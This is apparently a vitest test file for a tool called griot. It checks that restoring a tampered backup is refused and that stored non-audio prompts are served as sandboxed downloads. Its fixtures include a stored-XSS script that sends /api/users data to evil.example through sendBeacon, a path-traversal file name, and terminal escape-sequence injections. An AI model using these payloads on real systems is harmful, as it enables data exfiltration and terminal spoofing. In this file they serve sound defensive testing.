import { createHash } from 'node:crypto';
import { readdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { restoreCommand } from '../src/cli/restoreCommand.ts';
import { toneWav } from '../src/audio/toneWav.ts';
import { ADMIN_TOKEN, makeDataDir, startTestServer } from './helpers/testServer.ts';
import { testFlow } from './fixtures/testFlow.ts';

/**
 * A backup is a file anyone with the disk can edit. Restored blindly, an "audio" entry holding
 * an HTML page with a script was served by `GET /audio/…` as `text/html` on the designer's origin
 * (stored XSS), and a name like `../../../../tmp/zz.wav` was accepted. Now `griot restore` refuses
 * such a backup before writing anything, and a prompt is never served as something a browser runs.
 */
const quietly = async <T>(run: () => Promise<T>): Promise<{ result: T; output: string }> => {
  const lines: string[] = [];
  const spy = vi.spyOn(console, 'log').mockImplementation((...args: unknown[]) => void lines.push(args.join(' ')));
  try {
    return { result: await run(), output: lines.join('\n') };
  } finally {
    spy.mockRestore();
  }
};

const SCRIPT = Buffer.from('<!doctype html><script>fetch("/api/users").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script>');
const sha256 = (content: Buffer) => createHash('sha256').update(content).digest('hex');
const entry = (name: string, content: Buffer, contentType: string, overrides: Record<string, unknown> = {}) => ({
  flowId: 'hotline',
  name,
  contentType,
  bytes: content.length,
  sha256: sha256(content),
  uploadedAt: '2026-12-01T10:00:00.000Z',
  base64: content.toString('base64'),
  ...overrides,
});
const backupWith = (audio: unknown[]) => ({
  format: 'griot-backup',
  formatVersion: 1,
  createdAt: '2026-12-01T10:00:00.000Z',
  flows: [],
  drafts: [],
  versions: [],
  environments: [],
  bindings: [],
  sessions: [],
  callers: [],
  transcripts: [],
  audit: [],
  users: [],
  tokens: [],
  audio,
});

describe('griot restore of a backup whose prompts were tampered with', () => {
  const wav = toneWav();
  it.each([
    [
      'an HTML page with a script, declared text/html',
      [entry('fon/x.wav', SCRIPT, 'text/html')],
      /audio entry 1 \("hotline", "fon\/x\.wav"\): its bytes are not audio, not the audio\/wav its name says/,
    ],
    ['an HTML page declared audio/wav', [entry('fon/x.wav', SCRIPT, 'audio/wav')], /audio entry 1 .*fon\/x\.wav.*not audio/],
    ['a real WAV declared text/html', [entry('fon/x.wav', wav, 'text/html')], /audio entry 1 .*declared as "text\/html", but its bytes are audio\/wav/],
    ['a WAV named .mp3', [entry('fon/x.mp3', wav, 'audio/wav')], /audio entry 1 .*its bytes are audio\/wav, not the audio\/mpeg its name says/],
    [
      'a name climbing out of the folder',
      [entry('fon/ok.wav', wav, 'audio/wav'), entry('../../../../tmp/zz.wav', wav, 'audio/wav')],
      /audio entry 2 \("hotline", "\.\.\/\.\.\/\.\.\/\.\.\/tmp\/zz\.wav"\): not a flow id and a prompt name/,
    ],
    ['bytes that are not the ones declared', [entry('fon/x.wav', wav, 'audio/wav', { sha256: sha256(SCRIPT) })], /audio entry 1 .*SHA-256 does not match/],
    ['a size that is not the one declared', [entry('fon/x.wav', wav, 'audio/wav', { bytes: 12 })], /audio entry 1 .*declares 12 bytes, holds \d+/],
  ])('refuses %s, naming the entry, and restores nothing', async (_what, audio, said) => {
    const dataDir = await makeDataDir();
    const file = join(dataDir, 'tampered.json');
    await writeFile(file, JSON.stringify({ ...backupWith(audio), users: [] }));
    try {
      const refused = await quietly(() => restoreCommand(file, { DATA_DIR: join(dataDir, 'store') }));
      expect(refused.result).toBe(1);
      expect(refused.output).toMatch(/refusing to restore .*nothing was restored/);
      expect(refused.output).toMatch(said);
      // Nothing was written: the store was not even created, and a sound backup restores there.
      expect(await readdir(join(dataDir, 'store')).catch(() => [])).toEqual([]);
      const sound = join(dataDir, 'sound.json');
      await writeFile(sound, JSON.stringify(backupWith([entry('fon/ok.wav', wav, 'audio/wav')])));
      const restored = await quietly(() => restoreCommand(sound, { DATA_DIR: join(dataDir, 'store') }));
      expect(restored.result, restored.output).toBe(0);
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });
});

describe('griot restore quoting a tampered backup to the terminal', () => {
  it("writes the entries' control characters (C1 CSI, escape, right-to-left override) as text, so the refusal cannot drive the admin's terminal", async () => {
    const dataDir = await makeDataDir();
    const file = join(dataDir, 'tampered.json');
    const wav = toneWav();
    // JSON.stringify escapes C0 controls but leaves U+009B (a CSI on 8-bit terminals) and U+202E as they are.
    const audio = [entry('fon/\u009b2J\u202e.wav', wav, 'audio/wav'), entry('fon/x.wav', wav, 'audio/x-\u001b]0;owned\u0007')];
    await writeFile(file, JSON.stringify(backupWith(audio)));
    try {
      const refused = await quietly(() => restoreCommand(file, { DATA_DIR: join(dataDir, 'store') }));
      expect(refused.result).toBe(1);
      expect(refused.output).toContain('fon/\\u009b2J\\u202e.wav');
      expect(refused.output).toContain('audio/x-\\u001b]0;owned\\u0007');
      expect(refused.output.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    } finally {
      await rm(dataDir, { recursive: true, force: true });
    }
  });
});

describe('GET /audio of what the store holds', () => {
  it('serves a prompt whose stored type is not audio as a download that runs nothing, and real prompts inline, sandboxed', async () => {
    const server = await startTestServer();
    try {
      // As an older Griot (or a hand-edited database) may have stored it.
      await server.store.audio.putAudio({ flowId: 'hotline', name: 'fon/x.wav', contentType: 'text/html', bytes: SCRIPT.length, sha256: sha256(SCRIPT), uploadedAt: new Date().toISOString() }, SCRIPT);
      for (const method of ['GET', 'HEAD']) {
        // No published version plays it: served to the designer's users only.
        const served = await fetch(`${server.url}/audio/hotline/fon/x.wav`, { method, headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
        expect(served.status).toBe(200);
        expect(served.headers.get('content-type')).toBe('application/octet-stream');
        expect(served.headers.get('content-disposition')).toBe('attachment; filename="x.wav"');
        expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
        expect(served.headers.get('x-content-type-options')).toBe('nosniff');
      }

      await server.admin.post('/api/flows', { document: testFlow() });
      const uploaded = await fetch(`${server.url}/api/flows/hotline/audio?name=fon/menu.wav`, {
        method: 'POST',
        headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'audio/wav' },
        body: toneWav(),
      });
      expect(uploaded.status).toBe(201);
      const prompt = await fetch(`${server.url}/audio/hotline/fon/menu.wav`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
      expect(prompt.headers.get('content-type')).toBe('audio/wav');
      expect(prompt.headers.get('content-disposition')).toBe('inline; filename="menu.wav"');
      expect(prompt.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
      const partial = await fetch(`${server.url}/audio/hotline/fon/menu.wav`, { headers: { range: 'bytes=0-9', authorization: `Bearer ${ADMIN_TOKEN}` } });
      expect(partial.status).toBe(206);
      expect(partial.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    } finally {
      await server.stop();
    }
  });
});
